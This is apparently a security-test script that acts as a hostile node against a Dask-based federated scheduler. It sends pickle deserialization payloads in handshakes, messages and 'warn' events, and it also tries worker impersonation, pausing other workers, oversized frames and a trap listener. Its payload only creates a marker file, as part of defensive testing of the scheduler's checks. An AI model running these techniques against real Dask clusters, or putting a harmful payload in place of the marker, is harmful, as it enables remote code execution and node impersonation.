"""A hostile host: a process that holds one host's certificate and key, nothing else, and tries
to run code in, or act for another host at, whoever it reaches.

It speaks Dask's plain ``tls://`` transport (the same bytes on the wire as ``fedpe://``, with
none of its checks) and sends what an honest worker never would. Every payload is a pickle
that creates a marker file when it is loaded: a marker anywhere means code ran there.

    python hostile_host.py ATTACK --scheduler fedpe://H:P --ca CA --cert CERT --key KEY --marker PATH [...]

prints one JSON line: what the attack saw ({"outcome": ..., ...}). ``listen`` prints the address
it serves on, then serves until killed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import pickle
import socket
import ssl
import struct
import sys

from distributed import Security
from distributed.comm import connect, listen
from distributed.comm.core import Listener
from distributed.protocol.serialize import ToPickle


class Marker:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def plain(address: str) -> str:
    return "tls://" + address.split("://", 1)[1]


class Attack:
    def __init__(self, args: argparse.Namespace):
        self.args = args
        self.security = Security(tls_ca_file=args.ca, tls_client_cert=args.cert, tls_client_key=args.key,
                                 require_encryption=True)
        self.marker = Marker(args.marker)
        self.name = args.name

    async def comm(self, **kwargs):
        return await connect(plain(self.args.scheduler), timeout=5, **kwargs,
                             **self.security.get_connection_args("client"))

    async def ask(self, comm, msg: dict):
        """Write `msg` and read the answer; the outcome either way."""
        try:
            await comm.write(msg)
            answer = await asyncio.wait_for(comm.read(), 5)
            return {"outcome": "answered", "answer": repr(answer)[:300]}
        except Exception as exc:
            return {"outcome": "closed", "error": f"{type(exc).__name__}: {exc}"[:300]}

    async def registered(self, port: int = 1, wait_s: float = 10.0):
        """A comm on which the scheduler took us for our own worker (what an honest host's is).

        Tried again for `wait_s` while the worker of an earlier attack is still being removed.
        """
        deadline = asyncio.get_running_loop().time() + wait_s
        while True:
            try:
                return await self._register(port)
            except Exception:
                if asyncio.get_running_loop().time() > deadline:
                    raise
                await asyncio.sleep(0.3)

    async def _register(self, port: int):
        comm = await self.comm()
        await comm.write({"op": "register-worker", "reply": False, "address": f"fedpe://127.0.0.1:{port}",
                          "status": "running", "nthreads": 1, "name": self.name, "now": 0.0, "resources": {},
                          "memory_limit": 0, "local_directory": "/tmp", "services": {}, "nanny": None, "pid": 1,
                          "versions": {}, "metrics": {}, "extra": {}, "stimulus_id": "hostile",
                          "server_id": "hostile"})
        answer = await asyncio.wait_for(comm.read(), 5)
        if answer.get("status") != "OK":
            raise RuntimeError(f"not registered: {answer!r}"[:300])
        return comm

    # -- the attacks ----------------------------------------------------------------------------
    async def handshake_pickle(self):
        """A pickle in Dask's handshake, read before any handler sees the comm."""
        try:
            comm = await self.comm(handshake_overrides={"pickle-protocol": ToPickle(self.marker)})
        except Exception as exc:
            return {"outcome": "closed", "error": f"{type(exc).__name__}: {exc}"[:300]}
        return await self.ask(comm, {"op": "identity", "reply": True})

    async def message_pickle(self):
        comm = await self.comm()
        return await self.ask(comm, {"op": "identity", "reply": True, "x": ToPickle(self.marker)})

    async def warn_event(self):
        """Dask's own `warn` topic, whose payload distributed.Client unpickles."""
        comm = await self.registered(port=self.args.port)
        await comm.write([{"op": "log-event", "topic": "fedpe-probe", "msg": {"probe": 1}}])
        await comm.write([{"op": "log-event", "topic": "warn",
                           "msg": {"message": pickle.dumps(self.marker), "category": pickle.dumps(self.marker)}}])
        await asyncio.sleep(1)
        return {"outcome": "sent", "closed": comm.closed()}

    async def fedpe_topic_pickle(self):
        comm = await self.registered(port=self.args.port)
        return await self.ask(comm, [{"op": "log-event", "topic": "fedpe-x", "msg": ToPickle(self.marker)}])

    async def act_for(self):
        """Stream messages in another worker's name: pause it, fail a task of it."""
        comm = await self.registered(port=self.args.port)
        return await self.ask(comm, [{"op": "worker-status-change", "status": "paused",
                                      "worker": self.args.victim_address, "stimulus_id": "hostile"}])

    async def register_as(self):
        """register-worker under another host's name, and at another host's address."""
        outcomes = {}
        for label, changes in (("name", {"name": self.args.victim}),
                               ("address", {"address": self.args.victim_address}),
                               ("alias", {"address": self.args.victim})):
            comm = await self.comm()
            msg = {"op": "register-worker", "reply": False, "address": "fedpe://127.0.0.1:1", "status": "running",
                   "nthreads": 1, "name": self.name, "now": 0.0, "resources": {}, "memory_limit": 0,
                   "local_directory": "/tmp", "services": {}, "nanny": None, "pid": 1, "versions": {}, "metrics": {},
                   "extra": {}, "stimulus_id": "hostile", "server_id": "hostile", **changes}
            outcomes[label] = (await self.ask(comm, msg))["outcome"]
        comm = await self.comm()
        outcomes["unregister"] = (await self.ask(comm, {"op": "unregister", "address": self.args.victim,
                                                        "stimulus_id": "hostile", "reply": True}))["outcome"]
        return {"outcome": "tried", **outcomes}

    async def relay_call(self):
        """A role call through the relay to a host's client role of an execution it is not the server of."""
        comm = await self.comm()
        return await self.ask(comm, {"op": "fedpe-relay-call", "to": self.args.victim, "execution": self.args.execution,
                                     "role": "flcore-client", "method": self.args.method, "payload": b"\xc0",
                                     "reply": True, "timeout_s": 10.0})

    async def register_twice(self):
        first = await self.registered(port=self.args.port)
        try:
            await self.registered(port=self.args.port + 1, wait_s=0)
            return {"outcome": "answered", "first_closed": first.closed()}
        except Exception as exc:
            return {"outcome": "closed", "error": f"{type(exc).__name__}: {exc}"[:300]}

    def _raw(self) -> ssl.SSLSocket:
        """A bare TLS socket to the scheduler, with Dask's handshake done by hand."""
        context = self.security.get_connection_args("client")["ssl_context"]
        host, port = self.args.scheduler.split("://", 1)[1].rsplit(":", 1)
        sock = context.wrap_socket(socket.create_connection((host, int(port)), timeout=5))
        return sock

    def oversize(self):
        """A length field of 1 TiB, then a frame count of 2**40: neither may be allocated."""
        outcomes = {}
        for label, body in (("length", struct.pack("Q", 2**40)),
                            ("frames", struct.pack("Q", 64) + struct.pack("Q", 2**40) + b"\0" * 56)):
            sock = self._raw()
            try:
                sock.sendall(body)
                while sock.recv(4096):  # the scheduler's own handshake comes first; then EOF or not
                    pass
                outcomes[label] = "closed"
            except OSError as exc:
                outcomes[label] = "closed" if "timed out" not in str(exc) else "timeout"
            finally:
                sock.close()
        return {"outcome": "tried", **outcomes}

    def tls_only(self):
        """The TLS handshake alone: does the scheduler accept this certificate at all?"""
        try:  # in TLS 1.3 the server's verdict on our certificate arrives with its first bytes
            sock = self._raw()
            sock.recv(64)
            sock.close()
            return {"outcome": "connected"}
        except (OSError, ssl.SSLError) as exc:
            return {"outcome": "refused", "error": f"{type(exc).__name__}: {exc}"[:300]}

    async def listen(self):
        """Serve a listener whose handshake carries a pickle, for a victim to dial."""
        original = Listener.on_connection

        async def on_connection(listener, comm, handshake_overrides=None):
            return await original(listener, comm, {"pickle-protocol": ToPickle(self.marker)})

        Listener.on_connection = on_connection

        async def handle(comm):
            try:
                await comm.read()
                await comm.write({"status": "OK", "payload": ToPickle(self.marker)})
            except Exception:
                pass

        listener = listen("tls://127.0.0.1:0", handle, **self.security.get_listen_args("client"))
        await listener.start()
        print(json.dumps({"address": "fedpe://" + listener.contact_address.split("://", 1)[1]}), flush=True)
        await asyncio.Event().wait()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    for option in ("--scheduler", "--ca", "--cert", "--key", "--marker", "--name"):
        parser.add_argument(option, required=True)
    parser.add_argument("--victim", default="")
    parser.add_argument("--victim-address", default="")
    parser.add_argument("--port", type=int, default=1)
    parser.add_argument("--execution", default="")
    parser.add_argument("--method", default="fit")
    args = parser.parse_args()
    attack = Attack(args)
    method = getattr(attack, args.attack.replace("-", "_"))
    result = asyncio.run(method()) if asyncio.iscoroutinefunction(method) else method()
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    sys.exit(main())
